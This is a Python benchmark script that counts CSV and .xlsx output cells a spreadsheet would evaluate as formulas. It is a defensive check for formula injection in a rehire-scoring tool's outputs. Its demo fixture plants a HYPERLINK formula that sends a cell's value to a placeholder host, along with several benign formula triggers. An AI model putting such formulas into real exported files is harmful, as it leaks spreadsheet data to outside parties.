"""Count the cells of output files that a spreadsheet would run as formulas.

    python benchmarks/formula_cells.py --demo f.csv      # the 50-row demo input
    rehire-model score f.csv -o s.csv --keep note
    python benchmarks/formula_cells.py s.csv s.csv.rejects.csv

A CSV cell counts when it begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return and is not a plain number (``-12``, ``+3.5``, ``1e-3``), as a spreadsheet opening
the file reads it; an ``.xlsx`` cell counts when it is stored as a formula. ``--demo``
writes the first 50 leavers of ``examples/leavers_sample.csv`` with five formula-like
values: a ``leaver_id``, three values of an extra column ``note`` and a ``company_size``
that the scorer rejects (line 6).
"""

from __future__ import annotations

import argparse
import csv
import re
from pathlib import Path

import pandas as pd

ROOT = Path(__file__).resolve().parents[1]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)


def runs_as_formula(cell: str) -> bool:
    """A CSV cell that a spreadsheet would evaluate."""
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def formula_cells(path: Path) -> list[str]:
    """The cells of a CSV (UTF-8, with or without BOM) or ``.xlsx`` that would run."""
    if path.suffix.lower() == ".xlsx":
        import openpyxl

        book = openpyxl.load_workbook(path)
        return [str(cell.value) for ws in book.worksheets for row in ws.iter_rows()
                for cell in row if cell.data_type == "f"]
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row if runs_as_formula(cell)]


def write_demo(path: Path) -> None:
    data = pd.read_csv(ROOT / "examples" / "leavers_sample.csv", dtype=str,
                       keep_default_na=False).head(50)
    data["note"] = ""
    data.loc[0, "leaver_id"] = '=HYPERLINK("http://x.test/?"&A1,"click")'
    data.loc[1, "note"] = "+1-555"
    data.loc[2, "note"] = "-2+3"
    data.loc[3, "note"] = "@SUM(A1)"
    data.loc[4, "company_size"] = "=1+1"
    data.to_csv(path, index=False)
    print(f"wrote {path}: 50 leavers, five formula-like values; now run\n"
          f"  rehire-model score {path} -o s.csv --keep note")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("files", nargs="*", type=Path, help="CSV or .xlsx outputs")
    parser.add_argument("--demo", type=Path, metavar="FILE.csv",
                        help="write the 50-row demo input to this file")
    parser.add_argument("--show", action="store_true", help="print the cells found")
    args = parser.parse_args()
    if args.demo:
        write_demo(args.demo)
    total = 0
    for path in args.files:
        found = formula_cells(path)
        total += len(found)
        print(f"{path}: {len(found)} cell(s) a spreadsheet would run as formulas")
        if args.show:
            for cell in found:
                print(f"    {cell!r}")
    if len(args.files) > 1:
        print(f"total: {total}")


if __name__ == "__main__":
    main()
